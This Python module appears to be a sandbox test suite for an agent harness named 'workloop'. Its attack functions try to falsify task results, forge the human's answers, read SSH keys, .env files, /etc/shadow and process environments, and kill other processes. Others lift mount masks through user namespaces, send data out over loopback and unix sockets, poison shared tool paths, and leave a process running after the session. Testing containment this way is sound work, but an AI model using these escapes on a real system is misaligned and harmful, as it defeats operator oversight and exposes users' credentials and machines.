"""Attacks on the loop, its store and the machine it runs on."""

import ctypes
import json
import os
import shutil
import signal
import socket
import sqlite3
import stat
import subprocess
import sys
import urllib.request
from pathlib import Path

from means import Facts, FailedError, attack, run, write

NEW_USER, NEW_MOUNTS = 0x10000000, 0x00020000
REMOUNT, BIND, DETACH = 32, 4096, 2
ROOT = Path("/")


@attack
def read_the_store(facts: Facts) -> object:
    return Path(facts["store"]).read_bytes()[:16].decode()


@attack
def write_the_store(facts: Facts) -> object:
    with sqlite3.connect(facts["store"]) as store:
        return store.execute("update item set state = 'succeeded'").rowcount


@attack
def read_the_settings(facts: Facts) -> object:
    return Path(facts["config"]).read_text()


@attack
def change_the_settings(facts: Facts) -> object:
    return write(facts["config"])


@attack
def write_stop(facts: Facts) -> object:
    return write(Path(facts["folder"]) / "STOP", "now")


@attack
def answer_by_the_command(facts: Facts) -> object:
    command = (sys.executable, "-m", "workloop", "-C", facts["shop"], "answer", "asks", "red")
    return run(*command, PYTHONPATH=facts["package"], WORKLOOP_STATE=facts["state"])


@attack
def answer_by_the_command_as_if_it_were_a_person(facts: Facts) -> object:
    command = (sys.executable, "-m", "workloop", "-C", facts["shop"], "answer", "asks", "red")
    env = {name: value for name, value in os.environ.items() if not name.startswith("WORKLOOP")}
    env |= {"PYTHONPATH": facts["package"], "WORKLOOP_STATE": facts["state"]}
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
    if done.returncode != 0:
        raise FailedError(f"{done.returncode}: {done.stderr[-300:]}")
    return done.stdout


@attack
def answer_by_the_door(facts: Facts) -> object:
    token = Path(os.environ["WORKLOOP_TOKEN_FILE"]).read_text()
    asked = urllib.request.Request(
        f"{os.environ['WORKLOOP_URL']}/v1/answer",
        json.dumps({"key": "asks", "text": "red"}).encode(),
        {"Authorization": f"Bearer {token}", "Content-Type": "application/json"},
    )
    with urllib.request.urlopen(asked, timeout=10) as answer:
        return answer.read().decode()


@attack
def find_the_loop(facts: Facts) -> object:
    found = [line for line in run("ps", "-eo", "args").splitlines() if "workloop" in line and " run" in line]
    if not found:
        raise FailedError("no process of the loop is seen")
    return found


@attack
def kill_the_loop(facts: Facts) -> object:
    mine = {int(path.name) for path in Path("/proc").iterdir() if path.name.isdigit()}
    hit: list[int] = []
    for pid in range(3, int(facts["pid_max"])):
        if pid not in mine:
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                continue
            hit.append(pid)
    if not hit:
        raise FailedError("nobody else is there")
    return hit


@attack
def read_the_keys_of_the_loop(facts: Facts) -> object:
    for path in Path("/proc").glob("[0-9]*/environ"):
        if facts["key"].encode() in path.read_bytes():
            return str(path)
    raise FailedError("no process holds the key")


@attack
def read_the_operators_home(facts: Facts) -> object:
    return [Path(place, "id_ed25519").read_text() for place in (f"{facts['home']}/.ssh",)]


@attack
def read_the_operators_own_tree(facts: Facts) -> object:
    return (Path(facts["shop"]) / ".env").read_text()


@attack
def reach_another_work_tree(facts: Facts) -> object:
    return (Path(facts["other"]) / "thing.txt").read_text()


@attack
def write_another_work_tree(facts: Facts) -> object:
    return write(Path(facts["other"]) / "thing.txt")


@attack
def write_the_operators_own_tree(facts: Facts) -> object:
    return write(Path(facts["shop"]) / "thing.txt")


@attack
def write_outside_by_a_link(facts: Facts) -> object:
    Path("way-out").symlink_to(facts["folder"])
    try:
        return write("way-out/STOP", "now")
    finally:
        Path("way-out").unlink()


@attack
def lead_the_host_to_the_settings_by_a_link(facts: Facts) -> object:
    """The host reads this file; what it reads there would be told."""
    result = Path(os.environ["WORKLOOP_RESULT"])
    result.symlink_to(facts["config"])
    return "planted"


@attack
def forge_which_processes_are_ours(facts: Facts) -> object:
    """The next loop kills what this file names."""
    return write(Path(os.environ["WORKLOOP_TOKEN_FILE"]).parent / "process.json", '{"processes": []}')


@attack
def send_away_by_loopback(facts: Facts) -> object:
    with socket.create_connection(("127.0.0.1", facts["port"]), 5) as away:
        away.sendall(b"everything I saw")
    return "sent"


@attack
def send_away_by_an_abstract_socket(facts: Facts) -> object:
    with socket.socket(socket.AF_UNIX) as away:
        away.connect("\0" + facts["abstract"])
        away.sendall(b"everything I saw")
    return "sent"


@attack
def send_away_by_a_socket_file(facts: Facts) -> object:
    with socket.socket(socket.AF_UNIX) as away:
        away.connect(facts["socket"])
        away.sendall(b"everything I saw")
    return "sent"


@attack
def command_the_kernel(facts: Facts) -> object:
    """Nothing is written: to be let in is enough."""
    opened: list[str] = []
    for path in ("/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches", "/proc/mtrr", "/proc/sysrq-trigger"):
        try:
            os.close(os.open(path, os.O_WRONLY))
        except OSError:
            continue
        opened.append(path)
    if not opened:
        raise FailedError("none can be opened")
    return opened


@attack
def lift_the_masks_in_a_namespace_of_its_own(facts: Facts) -> object:
    """There a process has every capability, also over what is mounted."""
    kernel = ctypes.CDLL(None, use_errno=True)
    if kernel.unshare(NEW_USER | NEW_MOUNTS) != 0:
        raise FailedError(os.strerror(ctypes.get_errno()))
    lifted = [place for place in (facts["state"], facts["home"], facts["free"], "/") if not unmount(kernel, place)]
    if kernel.mount(None, b"/", None, REMOUNT | BIND, None) == 0:
        lifted.append("read-only")
    found = [name for name in ("config", "store") if Path(facts[name]).exists()]
    if not lifted and not found:
        raise FailedError(os.strerror(ctypes.get_errno()))
    return lifted, found


def unmount(kernel: ctypes.CDLL, place: str) -> int:
    return kernel.umount2(place.encode(), DETACH)


@attack
def go_through_the_root_of_another_process(facts: Facts) -> object:
    return [(ROOT / "proc" / str(pid) / "root" / facts["config"][1:]).read_text() for pid in (1, 2)]


@attack
def use_an_open_file_that_was_left(facts: Facts) -> object:
    found: list[str] = []
    for link in Path("/proc").glob("[0-9]*/fd/*"):
        try:
            target = str(link.readlink())
        except FileNotFoundError:  # it was this look's own
            continue
        if target.startswith("/") and not target.startswith(("/proc", "/dev/null", str(Path.cwd()))):
            found.append(target)
    if not found:
        raise FailedError("there is none")
    return found


@attack
def lift_the_masks(facts: Facts) -> object:
    script = f"umount {facts['state']} || mount -o remount,rw / || mount --bind / {Path.cwd()}"
    return run("sh", "-c", script)


@attack
def make_a_device(facts: Facts) -> object:
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    return "made"


@attack
def read_the_password_hashes(facts: Facts) -> object:
    return Path("/etc/shadow").read_text()


@attack
def poison_a_tool(facts: Facts) -> object:
    folder = Path(facts["package"]) / "workloop"
    return write(folder / "poison.py", "") if folder.is_dir() else write(Path(sys.executable).parent / "poison", "")


@attack
def write_where_programs_of_the_machine_are(facts: Facts) -> object:
    done: list[str] = []
    for folder in ("etc", "usr/local/bin", "usr/lib", "var/lib", "opt", ""):
        path = ROOT / folder / facts["shared"]
        try:
            path.touch()
        except OSError:
            continue
        path.unlink()
        done.append(str(path))
    if not done:
        raise FailedError("none can be written")
    return done


@attack
def poison_what_all_programs_share(facts: Facts) -> object:
    """Inside this works: the place is empty and private."""
    return write(Path(facts["free"]) / facts["shared"])


@attack
def poison_the_memory_that_all_share(facts: Facts) -> object:
    return write(ROOT / "dev" / "shm" / facts["shared"])


@attack
def stay_behind(facts: Facts) -> object:
    subprocess.Popen(["setsid", "-f", "env", "-i", shutil.which("sleep") or "sleep", facts["sleep"]])
    return "started"
